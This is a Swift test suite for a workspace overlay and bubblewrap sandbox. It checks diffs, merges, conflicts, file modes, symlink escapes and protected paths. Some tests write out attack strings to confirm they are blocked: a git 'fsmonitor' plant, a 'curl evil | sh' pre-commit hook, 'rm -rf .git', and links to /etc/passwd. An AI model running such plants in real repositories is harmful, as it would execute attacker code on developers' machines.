import Foundation
import Testing
import TestSupport
@testable import Workspace
#if canImport(Glibc)
import Glibc
#endif

/// A workspace and a place for layers, both outside `/tmp` (layers never live there).
struct LayerFixture {
    let workspace: TemporaryDirectory
    let layers: TemporaryDirectory

    init() throws {
        workspace = TemporaryDirectory(prefix: "bosun-layer-ws", in: "/var/tmp")
        layers = TemporaryDirectory(prefix: "bosun-layers", in: "/var/tmp")
    }

    func layer(_ worker: String) throws -> Layer {
        try Layer.open(workerId: worker, layersRoot: layers.path, workspaceRoot: workspace.path)
    }

    func read(_ relative: String) -> String? { try? String(contentsOfFile: workspace.path + "/" + relative, encoding: .utf8) }

    func remove() { workspace.remove(); layers.remove() }
}

@Suite struct LayerTests {
    @Test func writesStayInTheLayerUntilApplied() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write("src/a.txt", "one\ntwo\nthree\n")
        let layer = try fixture.layer("w_1")
        try layer.write(Data("one\nTWO\nthree\n".utf8), to: "src/a.txt", shownAs: "src/a.txt")
        try layer.write(Data("new\n".utf8), to: "src/new/b.txt", shownAs: "src/new/b.txt")

        #expect(fixture.read("src/a.txt") == "one\ntwo\nthree\n", "the workspace changed before apply")
        #expect(fixture.read("src/new/b.txt") == nil)
        #expect(try layer.content(of: "src/a.txt") == Data("one\nTWO\nthree\n".utf8))
        #expect(layer.files(under: "") == ["src/a.txt", "src/new/b.txt"])

        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.files.map(\.path) == ["src/a.txt", "src/new/b.txt"])
        #expect(changes.files.map(\.status) == [.modified, .added])
        #expect(changes.files[0].additions == 1 && changes.files[0].deletions == 1)
        #expect(changes.diff.contains("diff --git a/src/a.txt b/src/a.txt\n--- a/src/a.txt\n+++ b/src/a.txt"), "\(changes.diff)")
        #expect(changes.diff.contains("-two\n+TWO"), "\(changes.diff)")
        #expect(changes.diff.contains("new file mode 100644\n--- /dev/null\n+++ b/src/new/b.txt"), "\(changes.diff)")

        let outcome = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(outcome.applied == ["src/a.txt", "src/new/b.txt"] && outcome.conflicts.isEmpty && outcome.state == .applied)
        #expect(fixture.read("src/a.txt") == "one\nTWO\nthree\n")
        #expect(fixture.read("src/new/b.txt") == "new\n")
        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
    }

    /// `context` lines around each change: none, the default three, or the whole file.
    @Test func theDiffHasTheContextAskedFor() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let lines = (1...10).map { "line \($0)\n" }
        try fixture.workspace.write("a.txt", lines.joined())
        let layer = try fixture.layer("w_1")
        try layer.write(Data(lines.joined().replacingOccurrences(of: "line 10", with: "LINE 10").utf8), to: "a.txt", shownAs: "a.txt")
        #expect(try await layer.changes(protected: ProtectedPaths(), context: 0).diff.hasSuffix("@@ -10 +10 @@\n-line 10\n+LINE 10\n"))
        #expect(try await layer.changes(protected: ProtectedPaths()).diff.contains("@@ -7,4 +7,4 @@\n line 7\n"))
        let whole = try await layer.changes(protected: ProtectedPaths(), context: Int(Int32.max)).diff
        #expect(whole.contains("@@ -1,10 +1,10 @@\n line 1\n line 2\n"), "\(whole)")
    }

    /// Two workers edit the same line from one base: the first apply lands, the second is a
    /// conflict with its reason, and the workspace keeps the first one's version.
    @Test func theSecondOverlappingApplyIsAConflictAndWritesNothing() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write("config.txt", "name = old\nsize = 1\n")
        try fixture.workspace.write("other.txt", "untouched\n")
        let first = try fixture.layer("w_1")
        let second = try fixture.layer("w_2")
        try first.write(Data("name = first\nsize = 1\n".utf8), to: "config.txt", shownAs: "config.txt")
        try second.write(Data("name = second\nsize = 1\n".utf8), to: "config.txt", shownAs: "config.txt")
        try second.write(Data("changed by the second\n".utf8), to: "other.txt", shownAs: "other.txt")

        _ = try await first.apply(paths: nil, protected: ProtectedPaths())
        let outcome = try await second.apply(paths: nil, protected: ProtectedPaths())
        #expect(outcome.state == .conflicted && outcome.applied.isEmpty)
        #expect(outcome.conflicts.map(\.path) == ["config.txt"])
        #expect(outcome.conflicts.first?.reason.contains("overlap") == true)
        #expect(fixture.read("config.txt") == "name = first\nsize = 1\n")
        #expect(fixture.read("other.txt") == "untouched\n", "a conflict elsewhere still wrote this file")
        #expect(try second.summary().state == .conflicted)
    }

    /// The user's edit and the worker's touch different lines: apply merges them.
    @Test func changesOnDifferentLinesMerge() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let lines = (1...12).map { "line \($0)" }
        try fixture.workspace.write("f.txt", lines.joined(separator: "\n") + "\n")
        let layer = try fixture.layer("w_1")
        var worker = lines
        worker[10] = "line 11 by the worker"
        try layer.write(Data((worker.joined(separator: "\n") + "\n").utf8), to: "f.txt", shownAs: "f.txt")
        var user = lines
        user[0] = "line 1 by the user"
        try fixture.workspace.write("f.txt", user.joined(separator: "\n") + "\n")

        let outcome = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(outcome.conflicts.isEmpty && outcome.applied == ["f.txt"])
        let merged = try #require(fixture.read("f.txt"))
        #expect(merged.contains("line 1 by the user") && merged.contains("line 11 by the worker"), "\(merged)")
    }

    /// A plain directory (no git anywhere), a protected path in the layer never applied, and
    /// a discard that leaves the workspace as it was.
    @Test func protectedPathsAreNeverCarriedAndDiscardDropsEverything() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write(".git/config", "[core]\n")
        let layer = try fixture.layer("w_1")
        // As a command would leave it in the upper layer, behind the tools' back.
        try FileManager.default.createDirectory(atPath: layer.upper + "/.git", withIntermediateDirectories: true)
        try "[core]\n\tfsmonitor = /tmp/evil\n".write(toFile: layer.upper + "/.git/config", atomically: true, encoding: .utf8)
        try layer.write(Data("x\n".utf8), to: "x.txt", shownAs: "x.txt")

        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.files.map(\.path) == ["x.txt"])
        let discarded = try await layer.discard(protected: ProtectedPaths())
        #expect(discarded == ["x.txt"])
        #expect(fixture.read("x.txt") == nil && fixture.read(".git/config") == "[core]\n")
        #expect(try layer.summary().state == .discarded)
        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
    }

    /// In a git repository the base is what the user sees, uncommitted edits included, and
    /// apply leaves `.git` alone.
    @Test func inAGitRepositoryTheBaseIsTheUncommittedTree() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let git = { (arguments: [String]) throws -> Int32 in
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/usr/bin/git")
            process.arguments = ["-C", fixture.workspace.path, "-c", "user.name=t", "-c", "user.email=t@t"] + arguments
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            try process.run()
            process.waitUntilExit()
            return process.terminationStatus
        }
        try fixture.workspace.write("a.txt", "committed\n")
        #expect(try git(["init", "-q"]) == 0 && git(["add", "a.txt"]) == 0 && git(["commit", "-qm", "c"]) == 0)
        try fixture.workspace.write("a.txt", "uncommitted\n")
        let head = try String(contentsOfFile: fixture.workspace.path + "/.git/HEAD", encoding: .utf8)
        let layer = try fixture.layer("w_1")
        #expect(try layer.content(of: "a.txt") == Data("uncommitted\n".utf8))
        try layer.write(Data("uncommitted\nand the worker's line\n".utf8), to: "a.txt", shownAs: "a.txt")
        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.diff.contains(" uncommitted\n+and the worker's line"), "\(changes.diff)")
        _ = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(fixture.read("a.txt") == "uncommitted\nand the worker's line\n")
        #expect(try String(contentsOfFile: fixture.workspace.path + "/.git/HEAD", encoding: .utf8) == head)
    }

    /// `apply` stages every file before the first lands; when one cannot land (the user made
    /// a directory where the worker made a file), those already put in place are put back
    /// and no temporary file is left in the workspace.
    @Test func aWriteThatFailsPutsBackWhatApplyHadWritten() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write("a.txt", "old\n")
        let layer = try fixture.layer("w_1")
        try layer.write(Data("new\n".utf8), to: "a.txt", shownAs: "a.txt")
        try layer.write(Data("c\n".utf8), to: "c.txt", shownAs: "c.txt")
        try layer.write(Data("d\n".utf8), to: "sub/d.txt", shownAs: "sub/d.txt")
        try FileManager.default.createDirectory(atPath: fixture.workspace.path + "/c.txt", withIntermediateDirectories: false)

        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
        #expect(fixture.read("a.txt") == "old\n", "the file written before the failure was not put back")
        #expect(fixture.read("sub/d.txt") == nil)
        let left = try FileManager.default.subpathsOfDirectory(atPath: fixture.workspace.path).filter { $0.contains(".bosun-") }
        #expect(left.isEmpty, "\(left)")
        #expect(try layer.summary().state == .pending)

        try FileManager.default.removeItem(atPath: fixture.workspace.path + "/c.txt")
        let outcome = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(outcome.applied == ["a.txt", "c.txt", "sub/d.txt"])
        #expect(fixture.read("a.txt") == "new\n" && fixture.read("c.txt") == "c\n" && fixture.read("sub/d.txt") == "d\n")
        let after = try FileManager.default.subpathsOfDirectory(atPath: fixture.workspace.path).filter { $0.contains(".bosun-") }
        #expect(after.isEmpty, "\(after)")
    }

    /// An applied file the workspace already had keeps its permission bits.
    @Test func applyKeepsTheModeOfAnExistingFile() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let script = try fixture.workspace.write("run.sh", "#!/bin/sh\necho old\n")
        chmod(script, 0o750)
        let layer = try fixture.layer("w_1")
        try layer.write(Data("#!/bin/sh\necho new\n".utf8), to: "run.sh", shownAs: "run.sh")
        _ = try await layer.apply(paths: nil, protected: ProtectedPaths())
        var info = stat()
        #expect(stat(script, &info) == 0 && info.st_mode & 0o777 == 0o750)
        #expect(fixture.read("run.sh") == "#!/bin/sh\necho new\n")
    }

    /// Whole files added or deleted are diffed in the process, exactly as GNU diff writes them.
    @Test(arguments: ["one\n", "one\ntwo\n", "no newline", "a\nb", "\n\n", "  spaced \r\n\ttab\n"])
    func aWholeFileDiffIsGNUDiffs(content: String) async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let file = try fixture.workspace.write("f.txt", content)
        for added in [true, false] {
            let (old, new) = added ? ("/dev/null", "b/f.txt") : ("a/f.txt", "/dev/null")
            let paths = added ? ["/dev/null", file] : [file, "/dev/null"]
            let gnu = try await ProcessRunner.run(["diff", "--unified", "--text", "--label", old, "--label", new] + paths,
                                                  cwd: "/", environment: ["PATH": "/usr/bin:/bin", "LC_ALL": "C"],
                                                  timeout: 30, outputCap: 1 << 16)
            let ours = UnifiedDiff.wholeFile(Data(content.utf8), added: added, old: old, new: new)
            #expect(ours.text == String(decoding: gnu.output, as: UTF8.self))
            let lines = content.utf8.split(separator: UInt8(ascii: "\n"), omittingEmptySubsequences: false).count
            #expect(ours.lines == lines - (content.hasSuffix("\n") ? 1 : 0))
        }
    }

    /// What `.gitignore` ignores is not dropped silently: `changes` lists it apart, `apply`
    /// leaves it behind unless `paths` names it, and says so when nothing else changed.
    @Test func ignoredFilesAreListedApartAndAppliedOnlyWhenNamed() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write(".gitignore", "build/\n*.local\n")
        try fixture.workspace.write("app.py", "old\n")
        let layer = try fixture.layer("w_1")
        try layer.write(Data("KEY=1\n".utf8), to: "settings.local", shownAs: "settings.local")
        try layer.write(Data("obj\n".utf8), to: "build/app.o", shownAs: "build/app.o")

        let onlyIgnored = try await layer.changes(protected: ProtectedPaths())
        #expect(onlyIgnored.files.isEmpty && onlyIgnored.diff.isEmpty)
        // The worker's view agrees: no files, two ignored ones counted apart.
        #expect(try layer.summary() == LayerSummary(state: .pending, files: [], ignoredCount: 2))
        #expect(onlyIgnored.ignored.map(\.path) == ["build/app.o", "settings.local"])
        #expect(onlyIgnored.ignored.map(\.status) == [.added, .added])
        do {
            _ = try await layer.apply(paths: nil, protected: ProtectedPaths())
            Issue.record("apply wrote only ignored files without being asked")
        } catch let error as WorkspaceError {
            #expect(error.message.contains(".gitignore ignores (build/app.o, settings.local)") && error.message.contains("name them in paths"),
                    "\(error.message)")
        }

        try layer.write(Data("new\n".utf8), to: "app.py", shownAs: "app.py")
        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.files.map(\.path) == ["app.py"])
        #expect(try layer.summary() == LayerSummary(state: .pending, files: ["app.py"], ignoredCount: 2))
        #expect(!changes.diff.contains("settings.local"))
        let applied = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(applied.applied == ["app.py"])
        #expect(fixture.read("settings.local") == nil && fixture.read("build/app.o") == nil)

        let second = try fixture.layer("w_2")
        try second.write(Data("KEY=2\n".utf8), to: "settings.local", shownAs: "settings.local")
        let named = try await second.apply(paths: ["settings.local"], protected: ProtectedPaths())
        #expect(named.applied == ["settings.local"] && fixture.read("settings.local") == "KEY=2\n")
    }

    /// `apply` with `paths` lands those files and leaves the rest waiting: the layer stays
    /// pending, `changes` shows only the rest, and the next `apply` lands it.
    @Test func aPartialApplyLeavesTheRestForTheNextApply() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write("a.txt", "a\n")
        let layer = try fixture.layer("w_1")
        try layer.write(Data("A\n".utf8), to: "a.txt", shownAs: "a.txt")
        try layer.write(Data("b\n".utf8), to: "b.txt", shownAs: "b.txt")

        let first = try await layer.apply(paths: ["a.txt"], protected: ProtectedPaths())
        #expect(first.applied == ["a.txt"] && fixture.read("a.txt") == "A\n" && fixture.read("b.txt") == nil)
        #expect(try layer.summary().state == .pending)
        let rest = try await layer.changes(protected: ProtectedPaths())
        #expect(rest.files.map(\.path) == ["b.txt"] && !rest.diff.contains("a.txt"), "\(rest.diff)")

        let second = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(second.applied == ["b.txt"] && fixture.read("b.txt") == "b\n")
        #expect(try layer.summary().state == .applied)
        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
    }

    /// `paths` naming a file the worker did not change is refused naming the field and the
    /// files it did change.
    @Test func anUnknownPathIsRefusedNamingTheChangedFiles() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let layer = try fixture.layer("w_1")
        try layer.write(Data("x\n".utf8), to: "src/x.txt", shownAs: "src/x.txt")
        do {
            _ = try await layer.apply(paths: ["x.txt"], protected: ProtectedPaths())
            Issue.record("an unknown path was applied")
        } catch let error as WorkspaceError {
            #expect(error.field == "paths")
            #expect(error.message.contains("x.txt is not among the files this worker changed (it changed src/x.txt)"), "\(error.message)")
        }
        #expect(fixture.read("src/x.txt") == nil)
    }

    @Test func applyWithoutChangesIsRefused() async throws {
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let layer = try fixture.layer("w_1")
        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
        #expect(try layer.summary().state == .pending)
    }

    @Test func protectedPathsMatchThemselvesAndWhatIsUnder() {
        let protected = ProtectedPaths(extra: ["secrets/", "deploy.sh"])
        #expect(protected.match(".git/config") == ".git")
        #expect(protected.match(".git/hooks/pre-commit") == ".git")
        #expect(protected.match(".gitignore") == nil)
        #expect(protected.match(".envrc") == ".envrc")
        #expect(protected.match("secrets/key") == "secrets")
        #expect(protected.match("deploy.sh") == "deploy.sh")
        #expect(protected.match("src/.git") == nil)
    }
}

/// Commands see the workspace with the layer on top, write into the layer, never into the
/// workspace, and never into a protected path.
@Suite(.serialized) struct LayerSandboxTests {
    static func run(_ argv: [String], _ script: String, cwd: String) async throws -> ProcessOutcome {
        try await ProcessRunner.run(argv + ["sh", "-c", script], cwd: nil, environment: ["PATH": "/usr/bin:/bin"],
                                    timeout: 30, outputCap: 1 << 16)
    }

    @Test func aCommandSeesTheWorkersEditAndItsOutputStaysInTheLayer() async throws {
        let bwrap = try #require(Sandbox.bwrapPath, "bubblewrap must be installed: apt-get install bubblewrap")
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write("Makefile", "test:\n\tcat value.txt > result.txt\n")
        try fixture.workspace.write("value.txt", "old\n")
        let layer = try fixture.layer("w_1")
        try layer.write(Data("edited by the worker\n".utf8), to: "value.txt", shownAs: "value.txt")
        let view = SandboxView(workspaceRoot: fixture.workspace.path, workspaceWritable: true, layer: layer)
        let argv = Sandbox.wrap([], bwrap: bwrap, view: view, cwd: fixture.workspace.path)

        let outcome = try await Self.run(argv, "cat value.txt > result.txt && rm Makefile && cat result.txt", cwd: fixture.workspace.path)
        #expect(outcome.exitCode == 0, "\(String(decoding: outcome.output, as: UTF8.self))")
        #expect(String(decoding: outcome.output, as: UTF8.self) == "edited by the worker\n")
        #expect(fixture.read("result.txt") == nil, "the command wrote the workspace")
        #expect(fixture.read("value.txt") == "old\n")
        #expect(fixture.read("Makefile") != nil, "the command deleted from the workspace")

        // Read-only over the layer (as `search` and checks see it): the edit, and no writes.
        let readOnly = Sandbox.wrap([], bwrap: bwrap, view: SandboxView(workspaceRoot: fixture.workspace.path, layer: layer),
                                    cwd: fixture.workspace.path)
        let seen = try await Self.run(readOnly, "cat value.txt; touch other.txt", cwd: fixture.workspace.path)
        #expect(seen.exitCode != 0 && String(decoding: seen.output, as: UTF8.self).hasPrefix("edited by the worker\n"))
        #expect(try layer.recordNewBases() == 2)
        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.files.map(\.path) == ["Makefile", "result.txt", "value.txt"])
        #expect(changes.files.map(\.status) == [.deleted, .added, .modified])
        #expect(layer.lookup("Makefile") == .deleted)
        #expect(!layer.files(under: "").contains("Makefile"))
    }

    /// Symlinks a command makes in the layer are carried: one that stays inside the workspace
    /// is applied as a symlink; one that leads outside, or into a protected path, is a
    /// conflict that says so, and nothing is written until it is left out.
    @Test func symlinksACommandMakesAreCarriedWhenTheyStayInside() async throws {
        let bwrap = try #require(Sandbox.bwrapPath, "bubblewrap must be installed: apt-get install bubblewrap")
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write("docs/v1.md", "one\n")
        try fixture.workspace.write("docs/v2.md", "two\n")
        try fixture.workspace.write(".git/config", "[core]\n")
        try FileManager.default.createSymbolicLink(atPath: fixture.workspace.path + "/docs/current", withDestinationPath: "v1.md")
        let layer = try fixture.layer("w_1")
        let view = SandboxView(workspaceRoot: fixture.workspace.path, workspaceWritable: true, layer: layer)
        let argv = Sandbox.wrap([], bwrap: bwrap, view: view, cwd: fixture.workspace.path)
        let made = try await Self.run(argv, """
            ln -sfn v2.md docs/current && ln -s docs/v2.md latest && ln -s ../../etc/passwd docs/escape \
            && ln -s /etc/passwd absolute && ln -s .git/config gitconfig
            """, cwd: fixture.workspace.path)
        #expect(made.exitCode == 0, "\(String(decoding: made.output, as: UTF8.self))")

        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.files.map(\.path) == ["absolute", "docs/current", "docs/escape", "gitconfig", "latest"])
        #expect(changes.files.map(\.status) == [.added, .modified, .added, .added, .added])
        #expect(changes.diff.contains("diff --git a/latest b/latest\nnew file mode 120000\n--- /dev/null\n+++ b/latest\n@@ -0,0 +1 @@\n+docs/v2.md\n\\ No newline at end of file\n"), "\(changes.diff)")
        #expect(changes.diff.contains("@@ -1 +1 @@\n-v1.md\n\\ No newline at end of file\n+v2.md\n"), "\(changes.diff)")

        let refused = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(refused.state == .conflicted && refused.applied.isEmpty)
        #expect(refused.conflicts.map(\.path) == ["absolute", "docs/escape", "gitconfig"])
        #expect(refused.conflicts.allSatisfy { $0.reason.contains("apply never carries such a link") }, "\(refused.conflicts)")
        #expect(refused.conflicts[0].reason.contains("leads outside the workspace"))
        #expect(refused.conflicts[2].reason.contains("into .git, a protected path"))
        #expect(FileManager.default.fileExists(atPath: fixture.workspace.path + "/latest") == false)
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: fixture.workspace.path + "/docs/current") == "v1.md")

        let applied = try await layer.apply(paths: ["docs/current", "latest"], protected: ProtectedPaths())
        #expect(applied.applied == ["docs/current", "latest"] && applied.conflicts.isEmpty)
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: fixture.workspace.path + "/docs/current") == "v2.md")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: fixture.workspace.path + "/latest") == "docs/v2.md")
        #expect(fixture.read("latest") == "two\n")
        #expect(fixture.read("docs/v1.md") == "one\n", "the link's old target was written through")
        for name in ["absolute", "docs/escape", "gitconfig"] {
            var info = stat()
            #expect(lstat(fixture.workspace.path + "/" + name, &info) != 0, "\(name) was applied")
        }
    }

    /// A mode a command changes (`chmod +x`, `chmod -x`) is a change as git shows it, and
    /// `apply` carries it, all or nothing with the rest: a conflict elsewhere leaves every
    /// mode as it was.
    @Test func aModeACommandChangesIsShownAsGitDoesAndApplied() async throws {
        let bwrap = try #require(Sandbox.bwrapPath, "bubblewrap must be installed: apt-get install bubblewrap")
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let run = try fixture.workspace.write("run.sh", "#!/bin/sh\necho run\n")
        let tool = try fixture.workspace.write("bin/tool.sh", "#!/bin/sh\necho tool\n")
        let both = try fixture.workspace.write("both.sh", "one\n")
        try fixture.workspace.write("notes.txt", "first\n")
        chmod(run, 0o644)
        chmod(tool, 0o755)
        chmod(both, 0o640)
        let layer = try fixture.layer("w_1")
        let argv = Sandbox.wrap([], bwrap: bwrap, view: SandboxView(workspaceRoot: fixture.workspace.path, workspaceWritable: true, layer: layer),
                                cwd: fixture.workspace.path)
        let made = try await Self.run(argv, "chmod +x run.sh both.sh && chmod -x bin/tool.sh && echo two >> both.sh && echo worker > notes.txt",
                                      cwd: fixture.workspace.path)
        #expect(made.exitCode == 0, "\(String(decoding: made.output, as: UTF8.self))")

        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.files.map(\.path) == ["bin/tool.sh", "both.sh", "notes.txt", "run.sh"])
        #expect(changes.files.allSatisfy { $0.status == .modified })
        #expect(changes.files.map(\.additions) == [0, 1, 1, 0] && changes.files.map(\.deletions) == [0, 0, 1, 0])
        #expect(changes.diff.contains("diff --git a/bin/tool.sh b/bin/tool.sh\nold mode 100755\nnew mode 100644\ndiff --git a/both.sh"), "\(changes.diff)")
        #expect(changes.diff.contains("diff --git a/both.sh b/both.sh\nold mode 100644\nnew mode 100755\n--- a/both.sh\n+++ b/both.sh\n@@ -1 +1,2 @@\n one\n+two\n"),
                "\(changes.diff)")
        #expect(changes.diff.hasSuffix("diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"), "\(changes.diff)")

        // The workspace changed notes.txt meanwhile on the same line: nothing is written.
        try fixture.workspace.write("notes.txt", "user\n")
        let refused = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(refused.conflicts.map(\.path) == ["notes.txt"] && refused.applied.isEmpty)
        #expect(Self.mode(run) == 0o644 && Self.mode(tool) == 0o755 && Self.mode(both) == 0o640)

        let applied = try await layer.apply(paths: ["bin/tool.sh", "both.sh", "run.sh"], protected: ProtectedPaths())
        #expect(applied.conflicts.isEmpty && applied.applied == ["bin/tool.sh", "both.sh", "run.sh"])
        // An execute bit is set for whoever may read, as git sets it; the other bits stay.
        #expect(Self.mode(run) == 0o755 && Self.mode(tool) == 0o644 && Self.mode(both) == 0o750)
        #expect(fixture.read("both.sh") == "one\ntwo\n" && fixture.read("run.sh") == "#!/bin/sh\necho run\n")
        #expect(try await layer.changes(protected: ProtectedPaths()).files.map(\.path) == ["notes.txt"], "the applied modes still shown")
    }

    /// A mode the worker changed is carried when the workspace changed the file's content
    /// meanwhile (merged), and a content change keeps a mode the workspace changed meanwhile.
    @Test func aModeChangeMergesWithAContentChangeOnTheOtherSide() async throws {
        let bwrap = try #require(Sandbox.bwrapPath, "bubblewrap must be installed: apt-get install bubblewrap")
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        let script = try fixture.workspace.write("script.sh", "a\nb\nc\nd\ne\n")
        let other = try fixture.workspace.write("other.sh", "a\nb\nc\nd\ne\n")
        chmod(script, 0o644)
        chmod(other, 0o644)
        let layer = try fixture.layer("w_1")
        let argv = Sandbox.wrap([], bwrap: bwrap, view: SandboxView(workspaceRoot: fixture.workspace.path, workspaceWritable: true, layer: layer),
                                cwd: fixture.workspace.path)
        let made = try await Self.run(argv, "chmod +x script.sh && sed -i 1s/a/A/ other.sh", cwd: fixture.workspace.path)
        #expect(made.exitCode == 0, "\(String(decoding: made.output, as: UTF8.self))")
        _ = try layer.recordNewBases()
        try fixture.workspace.write("script.sh", "a\nb\nc\nd\nE\n")
        try fixture.workspace.write("other.sh", "a\nb\nc\nd\nE\n")
        chmod(script, 0o644)
        chmod(other, 0o755)

        let applied = try await layer.apply(paths: nil, protected: ProtectedPaths())
        #expect(applied.conflicts.isEmpty && applied.applied == ["other.sh", "script.sh"], "\(applied.conflicts)")
        #expect(fixture.read("script.sh") == "a\nb\nc\nd\nE\n" && Self.mode(script) == 0o755)
        #expect(fixture.read("other.sh") == "A\nb\nc\nd\nE\n" && Self.mode(other) == 0o755)
    }

    static func mode(_ path: String) -> mode_t {
        var info = stat()
        return stat(path, &info) == 0 ? info.st_mode & 0o777 : 0
    }

    /// The plant of the issue: `core.fsmonitor` in `.git/config`, and a pre-commit hook.
    @Test func aCommandCannotWriteProtectedPaths() async throws {
        let bwrap = try #require(Sandbox.bwrapPath, "bubblewrap must be installed: apt-get install bubblewrap")
        let fixture = try LayerFixture()
        defer { fixture.remove() }
        try fixture.workspace.write(".git/config", "[core]\n")
        let hook = try fixture.workspace.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
        chmod(hook, 0o755)
        let layer = try fixture.layer("w_1")
        for view in [SandboxView(workspaceRoot: fixture.workspace.path, workspaceWritable: true, layer: layer), SandboxView(workspaceRoot: fixture.workspace.path)] {
            let argv = Sandbox.wrap([], bwrap: bwrap, view: view, cwd: fixture.workspace.path)
            let plant = try await Self.run(argv, "printf '\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config", cwd: fixture.workspace.path)
            #expect(plant.exitCode != 0)
            let hookWrite = try await Self.run(argv, "echo 'curl evil | sh' > .git/hooks/pre-commit", cwd: fixture.workspace.path)
            #expect(hookWrite.exitCode != 0)
            let remove = try await Self.run(argv, "rm -rf .git", cwd: fixture.workspace.path)
            #expect(remove.exitCode != 0)
        }
        #expect(fixture.read(".git/config") == "[core]\n")
        #expect(fixture.read(".git/hooks/pre-commit") == "#!/bin/sh\nexit 0\n")
        let changes = try await layer.changes(protected: ProtectedPaths())
        #expect(changes.files.isEmpty, "\(changes.files)")
    }
}
